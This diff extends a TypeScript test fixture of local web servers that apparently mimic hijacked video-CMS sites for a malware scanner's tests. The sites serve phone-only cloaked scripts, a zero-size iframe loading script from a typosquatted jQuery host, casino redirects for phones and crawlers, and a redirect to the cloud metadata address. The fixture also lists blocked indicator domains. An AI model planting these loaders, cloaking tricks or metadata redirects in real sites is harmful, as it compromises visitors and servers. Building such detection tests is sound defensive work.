@@ -10,7 +10,12 @@ export type SiteName =
   | 'playerConfig'
   | 'redirectChain'
   | 'mentionsIndicator'
-  | 'toMetadata';
+  | 'toMetadata'
+  | 'cloakedScript'
+  | 'nestedFrame'
+  | 'mobileMetaRefresh'
+  | 'spiderRefreshHeader'
+  | 'manyScripts';
 
 const page = (body: string, title = '影视首页') =>
   `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>
@@ -25,6 +30,9 @@ const BAD_CONFIG = `${CLEAN_CONFIG}\nsetInterval(function(){debugger},100);eval(
 const isSpider = (ua: string) => /spider|bot|sogou/i.test(ua);
 const isMobile = (ua: string) => /iphone|android|mobile/i.test(ua) && !isSpider(ua);
 
+/** A loader that builds a script element whose address sits in a variable built from pieces. */
+const NESTED_LOADER = `(function(){var s=document.createElement('script');s.src="https://code.jquecy.com/jquery.min.js";document.body.appendChild(s);})();`;
+
 function respond(site: SiteName, req: http.IncomingMessage, res: http.ServerResponse) {
   const ua = req.headers['user-agent'] ?? '';
   const referer = req.headers.referer ?? '';
@@ -37,6 +45,13 @@ function respond(site: SiteName, req: http.IncomingMessage, res: http.ServerResp
     return res.end('/*! jQuery v3.6.0 */ (function(){ window.jQuery = {}; })();');
   if (path === '/static/js/home.js') return res.end('var MAC={Url:"",Title:"首页"};');
   if (path === '/static/js/player.js') return res.end('MacPlayer = { Init: function(){} };');
+  if (site === 'cloakedScript' && path === '/js/stats.js') {
+    // The site's own script, served with a payload to phones only: the page itself is clean.
+    return res.end(isMobile(ua) ? `var _s=1;\n${BAD_CONFIG}` : 'var _s=1;');
+  }
+  if (site === 'nestedFrame' && path === '/ad.html') return html('<script src="/js/ad.js"></script>');
+  if (site === 'nestedFrame' && path === '/js/ad.js') return res.end(NESTED_LOADER);
+  if (site === 'manyScripts' && path.startsWith('/js/')) return res.end(`var n=${JSON.stringify(path)};`);
   if (path !== '/' && site !== 'redirectChain') return res.writeHead(404).end('not found');
   switch (site) {
     case 'mobileOnly':
@@ -51,11 +66,29 @@ function respond(site: SiteName, req: http.IncomingMessage, res: http.ServerResp
       if (path === '/landing') return html(page('<script src="/static/js/jquery.min-3.6.8.js"></script>'));
       return res.writeHead(404).end();
     case 'mentionsIndicator':
+      // Mentions in text, a link, a comment and a script string: none of them loads anything.
       return html(
         page(
-          '<p>安全提示：不要加载 union.macoms.la、code.jquecy.com 的脚本。</p><a href="https://union.macoms.la/">union.macoms.la</a>',
+          `<p>安全提示：不要加载 union.macoms.la、code.jquecy.com 的脚本，也不要引入 jquery.min-3.6.8.js 这类假冒的库。</p>
+<a href="https://union.macoms.la/">union.macoms.la</a><!-- blocked: https://zz.bdustatic.com/tj.js -->
+<script>var blocked = ["https://cdnjs.clondflare.com/ajax/libs/jquery.js", "ywquyq.com"];</script>`,
           '网站被 hacked 了怎么办',
         ),
+      );
+    case 'cloakedScript':
+      return html(page('<script src="/js/stats.js"></script>'));
+    case 'nestedFrame':
+      return html(page('<iframe src="/ad.html" width="0" height="0"></iframe>'));
+    case 'mobileMetaRefresh':
+      return html(
+        page(isMobile(ua) ? '<meta http-equiv="refresh" content="0;url=https://casino.example.net/m/">' : ''),
+      );
+    case 'spiderRefreshHeader':
+      if (isSpider(ua)) res.setHeader('refresh', '0; url=https://casino.example.net/spider/');
+      return html(page(''));
+    case 'manyScripts':
+      return html(
+        page(Array.from({ length: 80 }, (_, i) => `<script src="/js/s${i}.js"></script>`).join('')),
       );
     case 'toMetadata':
       return res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
@@ -64,7 +97,14 @@ function respond(site: SiteName, req: http.IncomingMessage, res: http.ServerResp
   }
 }
 
-export type Sites = { url: (name: SiteName) => string; close: () => Promise<void> };
+/** What a site's server saw: every request path, and the most it was answering at once. */
+export type Traffic = { paths: string[]; maxInFlight: number };
+
+export type Sites = {
+  url: (name: SiteName) => string;
+  traffic: (name: SiteName) => Traffic;
+  close: () => Promise<void>;
+};
 
 /** Starts one 127.0.0.1 server per site (each needs its own origin for the CMS's static files). */
 export async function startSites(): Promise<Sites> {
@@ -77,15 +117,31 @@ export async function startSites(): Promise<Sites> {
     'redirectChain',
     'mentionsIndicator',
     'toMetadata',
+    'cloakedScript',
+    'nestedFrame',
+    'mobileMetaRefresh',
+    'spiderRefreshHeader',
+    'manyScripts',
   ];
   const servers = new Map<SiteName, http.Server>();
+  const traffic = new Map<SiteName, Traffic>();
   for (const name of names) {
-    const server = http.createServer((req, res) => respond(name, req, res));
+    const seen: Traffic = { paths: [], maxInFlight: 0 };
+    traffic.set(name, seen);
+    let inFlight = 0;
+    const server = http.createServer((req, res) => {
+      seen.paths.push(req.url ?? '/');
+      seen.maxInFlight = Math.max(seen.maxInFlight, ++inFlight);
+      res.on('close', () => inFlight--);
+      // A little latency, so overlapping requests would overlap here too.
+      setTimeout(() => respond(name, req, res), name === 'manyScripts' ? 15 : 0);
+    });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     servers.set(name, server);
   }
   return {
     url: (name) => `http://127.0.0.1:${(servers.get(name)!.address() as AddressInfo).port}/`,
+    traffic: (name) => traffic.get(name)!,
     close: async () => {
       await Promise.all([...servers.values()].map((s) => new Promise((r) => s.close(r))));
     },
